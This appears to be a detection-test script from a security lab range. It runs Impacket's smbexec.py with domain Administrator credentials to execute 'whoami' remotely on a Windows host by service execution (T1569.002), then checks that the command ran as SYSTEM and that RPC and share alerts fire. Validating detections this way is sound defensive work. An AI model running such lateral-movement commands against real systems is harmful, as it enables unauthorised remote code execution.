# SPDX-License-Identifier: Apache-2.0
# what: a command through a service that lives for it
# technique: T1569.002
# from: ws1
# to: win1
# accused: ws1,win1
# account: Administrator
# outcome: success
# must: alert rpc,share
. "$RANGE_HERE/item.sh"
printf 'whoami\nexit\n' >"$HOME/do"
timeout 60 /usr/bin/python3 "$IMPACKET/smbexec.py" "CORP/Administrator:$ADMIN_PASSWORD@$win1" <"$HOME/do" >"$HOME/said" 2>&1
cat "$HOME/said"
grep -q 'nt authority' "$HOME/said"
